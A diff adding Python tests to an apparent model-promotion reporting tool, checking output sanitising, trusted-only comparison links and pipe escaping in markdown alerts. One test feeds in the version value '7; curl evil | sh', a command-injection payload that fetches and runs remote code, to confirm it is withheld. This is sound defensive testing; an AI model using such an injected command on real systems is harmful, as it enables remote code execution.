@@ -138,6 +138,41 @@ def test_outputs_name_versions_and_verdict(cases: dict[str, Any]) -> None:
     assert overview["models"]["flight-delay"]["candidate-version"] == "14"
 
 
+def test_no_output_is_a_command(cases: dict[str, Any]) -> None:
+    """A version that is no number is not given out, as a workflow may put it into a command."""
+    records = cases["CASES"]["passed"][cases["MODEL"]]
+    odd = records.comparison.candidate.model_copy(update={"version": "7; curl evil | sh"})
+    report = Report.of(
+        {"m": records.model_copy(update={"comparison": records.comparison.model_copy(update={"candidate": odd})})},
+        cases["CONTEXT"],
+    )
+    found = outputs.outputs(report)
+    assert found["candidate-version"] == ""
+    assert json.loads(found["json"])["models"]["m"]["candidate-version"] is None
+
+
+def test_a_strangers_commits_are_no_link(cases: dict[str, Any]) -> None:
+    """What changed is linked to for records of our own alone."""
+    records = {"m": cases["CASES"]["passed"][cases["MODEL"]]}
+    for trusted in (True, False):
+        report = Report.of(records, cases["CONTEXT"].model_copy(update={"trusted": trusted}))
+        assert ("/compare/" in markdown.comment(report)) is trusted
+
+
+def test_a_pipe_is_written_plainly_outside_of_tables(cases: dict[str, Any]) -> None:
+    """In a table it needs a backslash, which would be seen in the alert."""
+    broken = cases["BROKEN"]
+    finding = broken.findings[0].model_copy(
+        update={"rule": "in (a|b)", "sentence": "is `a|b`", "outcome": Outcome.FAIL}
+    )
+    verdict = Verdict(outcome=Outcome.FAIL, decided_by="in (a|b)", sentence="is `a|b`")
+    violation = broken.violations[0].model_copy(update={"rule": "in (a|b)"})
+    record = broken.model_copy(update={"verdict": verdict, "findings": (finding,), "violations": (violation,)})
+    comment = markdown.comment(Report.of({"m": ModelRecords(validation=record)}, cases["CONTEXT"]))
+    assert "Decided by `in (a|b)`: is `a|b`." in comment
+    assert "`in (a\\|b)` |" in comment
+
+
 def test_after_a_promotion_the_output_is_the_new_production(cases: dict[str, Any]) -> None:
     """What serving now gets is the output; a refused promotion leaves the old version."""
     promoted = outputs.outputs(Report.of(cases["CASES"]["promoted"], cases["CONTEXT"]))
